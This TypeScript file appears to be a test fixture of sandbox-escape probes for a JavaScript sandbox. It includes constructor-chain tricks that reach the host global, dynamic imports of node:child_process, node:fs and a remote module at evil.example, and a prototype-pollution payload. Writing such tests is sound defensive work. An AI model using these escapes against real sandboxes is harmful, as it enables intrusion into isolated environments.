const NAMES = [
  'process',
  'require',
  'module',
  'Deno',
  'Bun',
  'Buffer',
  'fetch',
  'crypto',
  'performance',
  'WebAssembly',
  'Worker',
  'postMessage',
  'importScripts',
  'setTimeout',
  'XMLHttpRequest',
  'caches',
  'std',
  'os',
  'print',
  'gc',
  'load',
  'scriptArgs',
]

const FUNCTIONS: Readonly<Record<string, string>> = {
  'an arrow function': '(() => {})',
  'an async function': '(async () => {})',
  'a generator': '(function* () {})',
  'a console method': 'console.log',
  'a method of an array': '[].map',
  'an error of the engine': '(() => { try { null.x } catch (e) { return e } })()',
  'a stack overflow': '(() => { const f = () => f(); try { f() } catch (e) { return e } })()',
  'the body': 'body',
  'the console': 'console',
  'the actions': 'actions',
  'the global object': 'globalThis',
  'a proxy': 'new Proxy(function () {}, {})',
  'a promise': 'Promise.resolve()',
}

const HOST = 'g.process ?? g.Deno ?? g.Bun ?? g.fetch ?? g.require ?? g.setTimeout ?? g.caches'

/** Expressions that try to reach something outside the sandbox. In a safe sandbox each evaluates to `undefined` or `null`, or throws. */
export const ESCAPES: readonly (readonly [name: string, expression: string])[] = [
  ...NAMES.map((name) => [`the name ${name}`, `typeof ${name} === 'undefined' ? undefined : ${name}`] as const),
  ...Object.entries(FUNCTIONS).map(
    ([name, expression]) =>
      [
        `the host through the constructors of ${name}`,
        `await (async () => { const o = ${expression}; const g = o.constructor.constructor('return this')() ?? {}; return ${HOST} })()`,
      ] as const,
  ),
  ...['node:fs', 'node:child_process', 'fs', 'https://evil.example/x.js', 'data:text/javascript,export default 1'].map(
    (name) => [`the module ${name}`, `await import('${name}')`] as const,
  ),
  ['a polluted prototype', `(JSON.parse('{"__proto__":{"polluted":1}}'), ({}).polluted)`],
  ['what an earlier script left', 'globalThis.left ?? void (globalThis.left = 1)'],
  ['what an earlier script left', 'globalThis.left ?? void (globalThis.left = 1)'],
]
